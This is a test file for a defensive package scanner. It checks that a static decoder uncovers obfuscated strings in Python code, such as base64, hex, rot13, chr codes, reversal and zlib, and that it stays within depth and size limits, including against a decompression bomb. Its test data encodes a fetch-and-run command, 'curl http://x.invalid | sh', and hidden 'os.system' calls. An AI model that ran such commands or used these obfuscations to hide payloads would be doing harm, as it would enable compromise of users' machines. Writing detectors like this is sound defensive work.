import * as assert from 'node:assert/strict';
import * as zlib from 'node:zlib';
import { PythonParser } from '../../../../src/core/analysis/parser';
import { DECODE_LIMITS, evaluateHidden } from '../../../../src/core/packages/inspect/python/decode';

describe('inspect: static decoding of hidden strings is exact and bounded', () => {
  let parser: PythonParser;
  before(async () => (parser = await PythonParser.create()));

  function evaluate(expression: string) {
    const tree = parser.parse(`x = ${expression}\n`);
    try {
      const value = tree.rootNode.descendantsOfType('assignment')[0]!.childForFieldName('right');
      const decoded = evaluateHidden(value, () => undefined);
      return decoded && { text: decoded.value.toString('utf8'), how: decoded.how.join(' → ') };
    } finally {
      tree.delete();
    }
  }

  it('base64, hex, bytes.fromhex, codecs rot13, chr codes, bytes([...]) and reversal', () => {
    const cmd = 'curl http://x.invalid | sh';
    assert.deepEqual(evaluate(`base64.b64decode('${Buffer.from(cmd).toString('base64')}').decode()`), { text: cmd, how: 'base64' });
    assert.deepEqual(evaluate(`bytes.fromhex('${Buffer.from(cmd).toString('hex')}')`), { text: cmd, how: 'hex' });
    assert.deepEqual(evaluate(`binascii.unhexlify(b'${Buffer.from(cmd).toString('hex')}')`), { text: cmd, how: 'hex' });
    assert.deepEqual(evaluate("codecs.decode('bf.flfgrz', 'rot13')"), { text: 'os.system', how: 'rot13' });
    assert.deepEqual(evaluate("''.join(map(chr, [111, 115]))"), { text: 'os', how: 'chr codes' });
    assert.deepEqual(evaluate("''.join(chr(c - 1) for c in [112, 116])"), { text: 'os', how: 'chr codes' });
    assert.deepEqual(evaluate('chr(111) + chr(115)'), { text: 'os', how: 'chr codes' });
    assert.deepEqual(evaluate('chr(1_11) + chr(115)'), { text: 'os', how: 'chr codes' });
    assert.equal(evaluate('chr(1114112) + chr(115)'), undefined, 'a code beyond Unicode is not evaluated (and does not throw)');
    assert.deepEqual(evaluate('bytes([111, 115])'), { text: 'os', how: 'byte codes' });
    assert.deepEqual(evaluate("'metsys.so'[::-1]"), { text: 'os.system', how: 'reversed' });
    assert.deepEqual(evaluate(`zlib.decompress(base64.b64decode('${zlib.deflateSync(cmd).toString('base64')}'))`), { text: cmd, how: 'base64 → zlib' });
  });

  it('stops at the depth limit and never inflates past the output limit', () => {
    const layers = (n: number) => {
      let value = 'os.system';
      for (let i = 0; i < n; i++) value = Buffer.from(value).toString('base64');
      return `${'base64.b64decode('.repeat(n)}'${value}'${')'.repeat(n)}`;
    };
    assert.deepEqual(evaluate(layers(3)), { text: 'os.system', how: 'base64 → base64 → base64' });
    assert.equal(evaluate(layers(DECODE_LIMITS.maxDepth + 3)), undefined);
    const bomb = zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024)).toString('base64');
    const started = Date.now();
    const decoded = evaluate(`zlib.decompress(base64.b64decode('${bomb}'))`);
    assert.ok(decoded === undefined || decoded.text.length <= DECODE_LIMITS.maxOutput);
    assert.ok(Date.now() - started < 5000);
  });

  it('leaves what it cannot know alone: names without a binding, calls, f-strings with values', () => {
    assert.equal(evaluate('base64.b64decode(blob)'), undefined);
    assert.equal(evaluate('base64.b64decode(fetch())'), undefined);
    assert.equal(evaluate("f'{a}'[::-1]"), undefined);
  });
});
